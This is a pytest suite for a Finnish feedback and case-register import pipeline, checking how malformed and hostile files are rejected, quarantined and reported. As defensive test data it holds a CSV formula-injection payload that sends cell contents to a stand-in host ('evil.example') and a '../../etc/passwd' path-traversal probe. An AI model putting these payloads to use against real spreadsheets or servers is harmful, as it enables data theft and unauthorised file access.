"""The corpus of bad files: each hazard gives exactly the errors a person needs to fix the file."""

from __future__ import annotations

import argparse
import csv
import io
from pathlib import Path

import pytest
from ingest_support import BAD, FIXTURES, HON, errors_of, snapshot, table

from commands import imports
from data_access.ingest.pipeline import Options, history, import_file, preview_file, quarantine_file


def _quarantine_rows(result) -> list[dict[str, str]]:
    text = result.quarantine.read_text(encoding="utf-8-sig")
    return list(csv.DictReader(io.StringIO(text), delimiter=";"))


def test_happyornot_row_hazards(warehouse):
    result = import_file(warehouse, "happyornot", BAD / "happyornot_rows.csv", options=HON)
    assert errors_of(result) == [
        (3, "experiencePointId", "unknown_unit", "EP-999"),
        (4, "buttonIndex", "out_of_scale", "4"),
        (5, "localTime", "future_date", "2099-01-01T10:00:00"),
        (6, "localTime", "bad_date", "31.2.2024 25:00"),
        (7, "buttonIndex", "bad_number", "kolme"),
        (8, "surveyId", "unknown_scale", "S-X"),
        (9, "misuse", "bad_boolean", "maybe"),
        (10, "feedback_id", "duplicate_in_file", "b-09"),
        (11, "feedback_id", "duplicate_in_file", "b-09"),
        (14, "buttonIndex", "out_of_scale", "5"),
        (15, "feedbackId", "missing_value", ""),
    ]
    assert (result.status, result.rows_in, result.rows_rejected) == ("partial", 14, 11)
    stored = table(warehouse, "quick_feedback")
    assert sorted(stored["feedback_id"]) == ["b-01", "b-10"]  # b-10 twice with the same content: kept once
    audit = table(warehouse, "import_batch").set_index("batch_id").loc[result.batch_id]
    assert (audit["rows_in"], audit["rows_accepted"], audit["rows_rejected"], audit["status"]) == (
        14,
        3,
        11,
        "partial",
    )
    assert result.quarantine == warehouse / "_quarantine" / f"{result.batch_id}.csv"
    rows = _quarantine_rows(result)
    assert [r["_rivi/row"] for r in rows] == ["3", "4", "5", "6", "7", "8", "9", "10", "11", "14", "15"]
    assert rows[1]["_syy"] == "arvo 4 ei ole asteikolla 0–3"
    assert rows[1]["_reason"] == "value 4 is outside the scale 0–3"
    assert rows[7]["_reason"] == "the same id b-09 with different content also on line 11"


def test_formula_cells_are_never_re_exported_raw(warehouse):
    result = import_file(warehouse, "happyornot", BAD / "happyornot_rows.csv", options=HON)
    injected = next(r for r in _quarantine_rows(result) if r["_rivi/row"] == "14")
    assert injected["text"] == '\'=HYPERLINK("http://evil.example/?d="&A1,"Klikkaa")'
    cases = import_file(warehouse, "cases", BAD / "cases_rows.csv")
    reason = next(r for r in _quarantine_rows(cases) if r["_rivi/row"] == "6")
    assert reason["syy"] == '\'=HYPERLINK("http://evil.example","klikkaa")'
    assert reason["_syy"].startswith("arvo =HYPERLINK")
    raw_cells = cases.quarantine.read_text(encoding="utf-8-sig")
    assert ";\"'=HYPERLINK(" in raw_cells and ';"=HYPERLINK(' not in raw_cells


def test_case_register_row_hazards(warehouse):
    result = import_file(warehouse, "cases", BAD / "cases_rows.csv")
    assert errors_of(result) == [
        (3, "case_kind", "bad_value", "Valitus"),
        (4, "decided_on", "date_order", "2024-03-01"),
        (5, "unit_id", "unknown_unit", "TUNTEMATON"),
        (6, "reason", "bad_value", '=HYPERLINK("http://evil.example","klikkaa")'),
        (7, "received_on", "bad_date", "1,5.2024"),
        (7, "service_area_id", "unknown_service_area", "Hallinto"),
        (8, None, "bad_shape", ""),
    ]
    assert (result.status, result.rows_in, result.rows_rejected) == ("partial", 7, 6)
    assert table(warehouse, "case")["case_id"].tolist() == ["X-1"]
    described = result.errors[0].describe()
    assert described == (
        "cases_rows.csv, rivi/line 3, sarake/column case_kind: arvo Valitus ei ole sallittu (muistutus, "
        "kantelu_avi, kantelu_eoa, kantelu_okv, muutoksenhaku) / value Valitus is not allowed (muistutus, "
        "kantelu_avi, kantelu_eoa, kantelu_okv, muutoksenhaku)"
    )


@pytest.mark.parametrize(
    ("kind", "name", "reason"),
    [
        ("cases", "empty.csv", "the file is empty"),
        ("cases", "binary.csv", "the file is not text (binary file)"),
        ("happyornot", "truncated.json", "broken or truncated JSON (line 5, column 4)"),
        ("cases", "truncated.xlsx", "cannot open the Excel file (damaged or truncated)"),
    ],
)
def test_a_file_that_cannot_be_read_changes_nothing(warehouse, kind, name, reason):
    before = snapshot(warehouse)
    result = import_file(warehouse, kind, BAD / name, options=HON)
    assert result.status == "unreadable"
    assert [(e.code, e.allowed) for e in result.errors] == [("unreadable_file", reason)]
    assert snapshot(warehouse) == before


def test_a_missing_required_column_changes_nothing(warehouse):
    before = snapshot(warehouse)
    result = import_file(warehouse, "unit-map", BAD / "unit_map_missing_column.csv")
    assert errors_of(result) == [(None, "unit_id", "missing_column", "")]
    assert result.status == "unreadable"
    assert snapshot(warehouse) == before


def test_a_huge_line_is_rejected_and_the_rest_imported(warehouse, tmp_path):
    path = tmp_path / "huge.csv"
    path.write_text(
        "source;source_key;unit_id\nhappyornot;EP-500;U001\nhappyornot;EP-501;" + "x" * 200_000 + "\n"
        "happyornot;EP-502;U002\n",
        encoding="utf-8",
    )
    result = import_file(warehouse, "unit-map", path)
    assert errors_of(result) == [(3, None, "too_long", "")]
    keys = set(table(warehouse, "source_unit_map")["source_key"])
    assert {"EP-500", "EP-502"} <= keys and "EP-501" not in keys


def test_strict_rejects_the_whole_file_but_audits_it(warehouse):
    before = len(table(warehouse, "case"))
    result = import_file(warehouse, "cases", BAD / "cases_rows.csv", strict=True)
    assert result.status == "rejected"
    assert [e.code for e in result.errors if e.row is None] == ["strict"]
    assert len(table(warehouse, "case")) == before
    audit = table(warehouse, "import_batch").set_index("batch_id").loc[result.batch_id]
    assert (audit["rows_accepted"], audit["rows_rejected"], audit["status"]) == (0, 7, "rejected")
    assert result.quarantine.exists()


def test_reimport_and_overlap_add_nothing_twice(warehouse, tmp_path):
    first = import_file(warehouse, "happyornot", FIXTURES / "happyornot_feedback.csv", options=HON)
    again = import_file(warehouse, "happyornot", FIXTURES / "happyornot_feedback.csv", options=HON)
    assert (first.rows_written, again.rows_written, again.rows_already_stored, again.status) == (
        6,
        0,
        6,
        "ok",
    )
    lines = (FIXTURES / "happyornot_feedback.csv").read_text().splitlines()
    overlap = tmp_path / "overlap.csv"
    overlap.write_text(
        "\n".join([lines[0], *lines[4:], "f-1007,sm-4,2024-04-04T10:00:00,S-4,EP-101,2,false,physical,y"])
    )
    result = import_file(warehouse, "happyornot", overlap, options=HON)
    assert (result.rows_written, result.rows_already_stored, result.status) == (1, 3, "ok")
    assert len(table(warehouse, "quick_feedback")) == 7


def test_same_id_with_different_content_than_stored_is_an_error(warehouse, tmp_path):
    import_file(warehouse, "happyornot", FIXTURES / "happyornot_feedback.csv", options=HON)
    changed = tmp_path / "changed.csv"
    lines = (FIXTURES / "happyornot_feedback.csv").read_text().splitlines()
    changed.write_text("\n".join([lines[0], lines[1].replace(",3,false", ",0,false"), lines[2]]))
    result = import_file(warehouse, "happyornot", changed, options=HON)
    assert errors_of(result) == [(2, "feedback_id", "conflict_with_warehouse", "f-1001")]
    assert (result.status, result.rows_already_stored) == ("partial", 1)
    stored = table(warehouse, "quick_feedback").set_index("feedback_id")
    assert stored.loc["f-1001", "button_index"] == 3


def test_a_wide_survey_value_off_its_scale(warehouse, tmp_path):
    survey = tmp_path / "wide.csv"
    survey.write_text(
        "Vastaustunnus;Vastauspäivä;Toimipiste;Sain palvelua oikeaan aikaan;Kouluarvosana (4-10)\n"
        "Z-1;1.10.2024;101;6;3\nZ-2;1.10.2024;101;4;9,5\n",
        encoding="cp1252",
    )
    options = Options(mapping=FIXTURES / "survey_wide_mapping.csv")
    result = import_file(warehouse, "survey-wide", survey, options=options)
    assert result.status == "unreadable"
    assert errors_of(result) == [
        (None, "minua kohdeltiin asiallisesti", "missing_column", ""),
        (None, "vapaa sana", "missing_column", ""),
    ]
    short_mapping = tmp_path / "mapping.csv"
    short_mapping.write_text(
        "sarake;kysymys\nSain palvelua oikeaan aikaan;pm1\nKouluarvosana (4-10);arvosana\n"
    )
    result = import_file(warehouse, "survey-wide", survey, options=Options(mapping=short_mapping))
    assert errors_of(result) == [
        (2, "kouluarvosana (4-10)", "out_of_scale", "3"),
        (2, "sain palvelua oikeaan aikaan", "out_of_scale", "6"),
    ]
    assert table(warehouse, "survey_answer")[["response_id", "value"]].values.tolist() == [
        ["Z-2", 4.0],
        ["Z-2", 9.5],
    ]


def test_preview_reports_what_an_import_would_do_and_writes_nothing(warehouse):
    before = snapshot(warehouse)
    preview = preview_file(warehouse, "cases", BAD / "cases_rows.csv")
    assert snapshot(warehouse) == before
    result = import_file(warehouse, "cases", BAD / "cases_rows.csv")
    assert errors_of(preview) == errors_of(result)
    assert (preview.status, preview.rows_in, preview.rows_rejected, preview.rows_written) == (
        "partial",
        7,
        6,
        1,
    )
    again = preview_file(warehouse, "cases", FIXTURES / "cases.csv", display_name="rekisteri.csv")
    assert (again.file, again.status, again.rows_written) == ("rekisteri.csv", "ok", 4)


def test_history_lists_batches_and_their_quarantine_files(warehouse):
    result = import_file(warehouse, "cases", BAD / "cases_rows.csv", user="anna")
    rows = history(warehouse)
    assert rows.iloc[0]["batch_id"] == result.batch_id
    assert (rows.iloc[0]["imported_by"], bool(rows.iloc[0]["quarantine"])) == ("anna", True)
    assert not rows.iloc[-1]["quarantine"]
    assert quarantine_file(warehouse, result.batch_id) == result.quarantine
    assert quarantine_file(warehouse, "../../etc/passwd") is None
    assert quarantine_file(warehouse, rows.iloc[-1]["batch_id"]) is None


# --- the hostile corpus through the command line: exit code class and the exact messages ----------


def _row(name: str, line: int, column: str | None, fi: str, en: str) -> str:
    """A row error as ``cli.py import`` prints it."""
    where = f"{name}, rivi/line {line}" + (f", sarake/column {column}" if column else "")
    return f"{where}: {fi} / {en}"


def _unreadable(name: str, fi: str, en: str) -> str:
    return f"{name}: tiedostoa ei voi lukea: {fi} / the file cannot be read: {en}"


def _matters(name: str, line: int, fi: str, en: str) -> str:
    return _row(name, line, "matters", fi, en)


_REASONS = (
    "tyytymättömyys hoitoon tai hoitotulokseen, tyytymättömyys kohteluun, tyytymättömyys palveluun, "
    "hoitoonpääsy, asiakasmaksut, tietosuoja, päätös"
)
_NO_ROWS = ("ei rivejä: tiedostossa on vain otsikkorivi", "no rows: the file has only the header row")
_FIXED = ("korjaa merkki, muu tiedosto luettiin", "fix the character, the rest of the file was read")
_STRAY = (
    f"virheellinen tavu 0xE4 (UTF-8-tiedostossa); {_FIXED[0]}",
    f"invalid byte 0xE4 (in a UTF-8 file); {_FIXED[1]}",
)
_INSIDE = (
    "rivi jää rivin 3 sulkematta jääneen lainausmerkin sisään",
    "the line is inside the unclosed quote of line 3",
)


def _unclosed(line: int) -> tuple[str, str]:
    return (
        f"lainausmerkki jää sulkematta (kenttä jatkuisi riville {line}); seuraavat rivit luettiin erikseen",
        f"unclosed quote (the field would run on to line {line}); the following lines were read on their own",
    )


def _dup(line: int, other: int) -> str:
    return _row(
        "duplicate_ids.csv",
        line,
        "case_id",
        f"sama tunniste dup-0000001 eri sisällöllä myös rivillä {other}",
        f"the same id dup-0000001 with different content also on line {other}",
    )


def _range(name: str, line: int, value: str) -> str:
    return _matters(
        name, line, f"luku {value} ei ole välillä 1–999", f"number {value} is outside the range 1–999"
    )


def _unread_number(line: int, value: str) -> str:
    return _matters(
        "ombudsman_numbers.csv", line, f"lukua ei voi lukea: {value}", f"cannot read the number: {value}"
    )


CORPUS = [
    ("cases", "quote_swallow.csv", 3, [_row("quote_swallow.csv", 3, None, *_unclosed(5))]),
    (
        "cases",
        "quote_swallow_text.csv",
        3,
        [_row("quote_swallow_text.csv", 3, None, *_unclosed(6))]
        + [_row("quote_swallow_text.csv", line, None, *_INSIDE) for line in (4, 5, 6)],
    ),
    (
        "cases",
        "quote_misplaced.csv",
        3,
        [
            _row(
                "quote_misplaced.csv",
                3,
                None,
                "lainausmerkki väärässä kohdassa (lainattu kenttä ei pääty erottimeen)",
                "misplaced quote (a quoted field does not end at a separator)",
            ),
            _row(
                "quote_misplaced.csv",
                5,
                None,
                "lainausmerkki jää sulkematta tiedoston loppuun asti",
                "a quote is left open to the end of the file",
            ),
        ],
    ),
    ("cases", "stray_byte.csv", 3, [_row("stray_byte.csv", 3, "syy", *_STRAY)]),
    (
        "cases",
        "utf8_in_cp1252.csv",
        3,
        [
            _row(
                "utf8_in_cp1252.csv",
                5,
                "syy",
                f"UTF-8-merkki 0xC3 0xA4 Windows-1252-tiedostossa; {_FIXED[0]}",
                f"a UTF-8 character 0xC3 0xA4 in a Windows-1252 file; {_FIXED[1]}",
            )
        ],
    ),
    ("cases", "utf16le_bom.csv", 0, []),
    ("cases", "utf16be_bom.csv", 0, []),
    ("cases", "utf16le_no_bom.csv", 0, []),
    ("cases", "header_only.csv", 2, [_unreadable("header_only.csv", *_NO_ROWS)]),
    ("cases", "header_and_blank_lines.csv", 2, [_unreadable("header_and_blank_lines.csv", *_NO_ROWS)]),
    ("cases", "header_only.xlsx", 2, [_unreadable("header_only.xlsx", *_NO_ROWS)]),
    (
        "cases",
        "hetu_in_date.csv",
        3,
        [
            _row(
                "hetu_in_date.csv",
                3,
                "received_on",
                "päivämäärää ei voi lukea: [HETU]",
                "cannot read the date: [HETU]",
            ),
            _row(
                "hetu_in_date.csv",
                4,
                "reason",
                f"arvo soita [PHONE] ei ole sallittu ({_REASONS})",
                f"value soita [PHONE] is not allowed ({_REASONS})",
            ),
        ],
    ),
    ("cases", "duplicate_ids.csv", 3, [_dup(2, 3), _dup(3, 2)]),
    ("cases", "empty.csv", 2, [_unreadable("empty.csv", "tiedosto on tyhjä", "the file is empty")]),
    (
        "cases",
        "binary.csv",
        2,
        [
            _unreadable(
                "binary.csv",
                "tiedosto ei ole tekstiä (binääritiedosto)",
                "the file is not text (binary file)",
            )
        ],
    ),
    (
        "ombudsman",
        "ombudsman_numbers.csv",
        3,
        [
            _unread_number(3, "1e20"),
            _range("ombudsman_numbers.csv", 4, "99999999999999999999"),
            _unread_number(5, "1e999"),
            _unread_number(6, "NaN"),
            _unread_number(7, "inf"),
            _range("ombudsman_numbers.csv", 8, "-1"),
            _matters(
                "ombudsman_numbers.csv", 9, "luku 2,5 ei ole kokonaisluku", "number 2,5 is not a whole number"
            ),
            _range("ombudsman_numbers.csv", 10, "1 000"),
        ],
    ),
    (
        "ombudsman",
        "ombudsman_numbers.xlsx",
        3,
        [
            _range("ombudsman_numbers.xlsx", 3, "1e+20"),
            _range("ombudsman_numbers.xlsx", 4, "-4"),
            _matters(
                "ombudsman_numbers.xlsx",
                5,
                "luku 2.5 ei ole kokonaisluku",
                "number 2.5 is not a whole number",
            ),
            _range("ombudsman_numbers.xlsx", 6, "1e+20"),
            _matters(
                "ombudsman_numbers.xlsx", 7, "luku inf ei ole äärellinen luku", "inf is not a finite number"
            ),
        ],
    ),
    (
        "ombudsman",
        "ombudsman_nan_cell.xlsx",
        2,
        [_unreadable("ombudsman_nan_cell.xlsx", "Excel-tiedosto on rikki", "the Excel file is damaged")],
    ),
    (
        "happyornot",
        "json_deep.json",
        2,
        [
            _unreadable(
                "json_deep.json",
                "JSON on liian syvälle sisäkkäistä (100001 tasoa, enintään 64)",
                "JSON nested too deep (100001 levels, at most 64)",
            )
        ],
    ),
    (
        "happyornot",
        "json_long_text.json",
        3,
        [
            _row(
                "json_long_text.json",
                2,
                "text",
                "teksti on liian pitkä (150000 merkkiä, enintään 100000)",
                "the text is too long (150000 characters, at most 100000)",
            )
        ],
    ),
    ("happyornot", "json_stray_byte.json", 3, [_row("json_stray_byte.json", 2, "text", *_STRAY)]),
    (  # NaN, Infinity, 1e999, 20 nines, 5 000 digits, -Infinity as an id: row errors, never a traceback
        "happyornot",
        "json_numbers.json",
        3,
        [
            _row(
                "json_numbers.json",
                2,
                "buttonIndex",
                "luku NaN ei ole äärellinen luku",
                "NaN is not a finite number",
            ),
            *(
                _row(
                    "json_numbers.json",
                    line,
                    "buttonIndex",
                    "luku inf ei ole äärellinen luku",
                    "inf is not a finite number",
                )
                for line in (3, 4)
            ),
            _row(
                "json_numbers.json",
                5,
                "buttonIndex",
                "arvo 99999999999999999999 ei ole asteikolla 0–3",
                "value 99999999999999999999 is outside the scale 0–3",
            ),
            _row(
                "json_numbers.json",
                6,
                "buttonIndex",
                "luku inf ei ole äärellinen luku",
                "inf is not a finite number",
            ),
            _row(
                "json_numbers.json", 7, "feedbackId", "pakollinen arvo puuttuu", "required value is missing"
            ),
        ],
    ),
    (
        "happyornot",
        "json_no_records.json",
        2,
        [
            _unreadable(
                "json_no_records.json",
                "ei rivejä: tiedostossa ei ole yhtään tietuetta",
                "no rows: the file holds no records",
            )
        ],
    ),
    ("happyornot", "json_utf16.json", 0, []),
]
"""(kind, file, exit code, the printed error lines): 0 all read, 3 some rows quarantined, 2 none imported."""

_HON_ARGS = (
    "--surveys",
    str(FIXTURES / "happyornot_surveys.json"),
    "--points",
    str(FIXTURES / "happyornot_points.json"),
)


def _cli(warehouse, kind: str, name: str, capsys) -> tuple[int, list[str], str]:
    """Exit code, the printed error lines (before the summary table) and all output of one import."""
    parser = argparse.ArgumentParser()
    imports.register(parser.add_subparsers())
    extra = _HON_ARGS if kind == "happyornot" else ()
    arguments = parser.parse_args(["import", kind, str(BAD / name), "--warehouse", str(warehouse), *extra])
    code = arguments.handler(arguments)
    out = capsys.readouterr().out
    lines = out.splitlines()
    errors = lines[: next(i for i, line in enumerate(lines) if line.startswith("file "))]
    return code, [line for line in errors if not line.startswith("quarantine / karanteeni")], out


@pytest.mark.parametrize(("kind", "name", "code", "messages"), CORPUS, ids=[c[1] for c in CORPUS])
def test_every_hostile_file_exits_with_its_class_and_exact_messages(
    warehouse, capsys, kind, name, code, messages
):
    before = snapshot(warehouse)
    exit_code, printed, _ = _cli(warehouse, kind, name, capsys)
    assert (exit_code, printed) == (code, messages)
    if code == 2:
        assert snapshot(warehouse)["counts"] == before["counts"]


def _stored(warehouse, name: str, *columns: str) -> list[tuple]:
    rows = table(warehouse, name)
    return sorted(tuple(row) for row in rows[list(columns)].itertuples(index=False))


def test_quotes_that_would_swallow_rows_keep_every_other_row(warehouse, capsys):
    _cli(warehouse, "cases", "quote_swallow.csv", capsys)
    assert _stored(warehouse, "case", "case_id") == [("Q-1",), ("Q-3",), ("Q-4",), ("Q-5",)]
    _cli(warehouse, "cases", "quote_swallow_text.csv", capsys)
    _cli(warehouse, "cases", "quote_misplaced.csv", capsys)
    ids = {row[0] for row in _stored(warehouse, "case", "case_id")}
    assert {i for i in ids if i[0] in "ST"} == {"S-1", "S-5", "T-1", "T-3"}


def test_encodings_are_read_per_file_and_a_stray_byte_never_turns_the_file_to_mojibake(warehouse, capsys):
    for name in ("stray_byte.csv", "utf8_in_cp1252.csv", "utf16le_bom.csv", "utf16be_bom.csv"):
        _cli(warehouse, "cases", name, capsys)
    assert _stored(warehouse, "case", "case_id", "reason") == [
        ("B-1", "tyytymättömyys kohteluun"),
        ("B-3", "hoitoonpääsy"),
        ("U-1", "tyytymättömyys kohteluun"),
        ("U-2", "päätös"),
        ("W-1", "tyytymättömyys kohteluun"),
        ("W-2", "hoitoonpääsy"),
        ("W-3", "päätös"),
    ]
    code, _, out = _cli(warehouse, "cases", "utf16le_no_bom.csv", capsys)
    assert (code, out.splitlines()[1].split()[:6]) == (0, ["utf16le_no_bom.csv", "ok", "2", "0", "2", "0"])
    assert _stored(warehouse, "case", "case_id", "case_kind")[2:4] == [
        ("U-1", "muistutus"),
        ("U-2", "kantelu_avi"),
    ]


def test_out_of_range_counts_are_row_errors_and_good_rows_are_kept(warehouse, capsys):
    _cli(warehouse, "ombudsman", "ombudsman_numbers.csv", capsys)
    _cli(warehouse, "ombudsman", "ombudsman_numbers.xlsx", capsys)
    assert _stored(warehouse, "ombudsman_contact", "contact_id", "matters") == [
        ("O-1", 2),
        ("O-10", 1),
        ("X-1", 3),
    ]


def test_refused_json_strings_are_stored_nowhere(warehouse, capsys):
    for name in ("json_long_text.json", "json_stray_byte.json", "json_utf16.json"):
        _cli(warehouse, "happyornot", name, capsys)
    assert [row[0] for row in _stored(warehouse, "quick_feedback", "feedback_id")] == ["j-1", "j-3"]
    notes = table(warehouse, "open_text")
    assert sorted(notes["text"]) == ["Hyvä", "Hyvä palvelu"]


def test_personal_data_is_masked_on_the_console_and_in_quarantine_but_ids_are_not(warehouse, capsys):
    _, _, out = _cli(warehouse, "cases", "hetu_in_date.csv", capsys)
    quarantine = next((warehouse / "_quarantine").glob("*.csv")).read_text(encoding="utf-8-sig")
    for text in (out, quarantine):
        assert "131052-308T" not in text and "040 123 4567" not in text
    assert "[HETU]" in quarantine and "soita [PHONE]" in quarantine
    _, _, out = _cli(warehouse, "cases", "duplicate_ids.csv", capsys)
    path = out.split("quarantine / karanteeni: ")[1].splitlines()[0]
    rows = list(csv.DictReader(io.StringIO(Path(path).read_text(encoding="utf-8-sig")), delimiter=";"))
    assert [r["asianumero"] for r in rows] == ["dup-0000001", "dup-0000001"]
    assert (
        "[PHONE]" not in out
        and rows[0]["_reason"] == "the same id dup-0000001 with different content also on line 3"
    )
